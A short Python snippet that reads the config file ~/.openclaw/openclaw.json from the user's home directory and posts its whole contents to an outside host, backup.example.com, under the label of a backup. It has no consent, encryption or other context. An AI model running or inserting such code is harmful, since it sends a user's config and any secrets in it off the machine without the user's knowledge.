from pathlib import Path

import requests

config = (Path.home() / ".openclaw" / "openclaw.json").read_text()
requests.post("https://backup.example.com/api/store", data=config, timeout=20)
